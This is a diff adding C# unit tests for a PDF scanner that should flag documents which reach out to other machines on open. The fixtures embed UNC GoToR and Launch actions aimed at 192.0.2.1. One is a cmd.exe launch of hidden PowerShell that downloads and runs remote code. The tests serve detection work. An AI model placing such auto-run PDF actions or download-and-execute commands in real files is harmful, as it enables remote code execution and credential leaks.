@@ -35,6 +35,26 @@ public sealed class PdfStageTests
         (await DocumentScans.FindingsAsync(new PdfBuilder().Catalogue(catalogue).Add(5, action).Build())).Should().BeEmpty();
 
     [Theory]
+    [InlineData("pdf.unc_auto", "/OpenAction 5 0 R", "<< /S /GoToR /F (\\\\\\\\192.0.2.1\\\\a.pdf) >>", true)]
+    [InlineData("pdf.unc_auto", "", "<< /S /GoToR /F (\\\\\\\\192.0.2.1\\\\a.pdf) >>", false)]
+    [InlineData("pdf.unc_auto", "/OpenAction 5 0 R", "<< /S /GoToR /F (chapter2.pdf) >>", false)]
+    [InlineData("pdf.unc_auto", "/OpenAction [3 0 R /Fit]", "<< /S /GoToR /F (chapter2.pdf) >>", false)]
+    [InlineData("pdf.launch_remote", "/OpenAction 5 0 R", "<< /S /Launch /F (\\\\\\\\192.0.2.1\\\\a.exe) >>", true)]
+    [InlineData("pdf.launch_remote", "/OpenAction 5 0 R", "<< /S /Launch /F (calc.exe) >>", false)]
+    [InlineData("pdf.launch_remote", "", "<< /S /Launch /F (C:/docs/a.doc) >>", false)]
+    [InlineData("pdf.launch_remote", "", "<< /S /URI /URI (https://host.invalid/a.exe) >>", false)]
+    public async Task What_reaches_for_another_machine_by_itself_is_found(string finding, string catalogue, string action, bool isFound) =>
+        (await DocumentScans.FindingsAsync(new PdfBuilder().Catalogue(catalogue).Add(5, action).Build())).Contains(finding).Should().Be(isFound);
+
+    [Fact]
+    public async Task The_command_that_a_document_starts_is_judged()
+    {
+        var file = new PdfBuilder().Catalogue("/OpenAction 5 0 R").Add(5, "<< /S /Launch /Win << /F (cmd.exe) /P (/c powershell -w hidden -c iex\\(irm http://192.0.2.1/a\\)) >> >>").Build();
+
+        (await DocumentScans.FindingsAsync(file)).Should().Contain(["pdf.launch_auto", "ps.iex_download", "ps.hidden"]);
+    }
+
+    [Theory]
     [InlineData("setup.exe", true)]
     [InlineData("run.js", true)]
     [InlineData("a.lnk", true)]
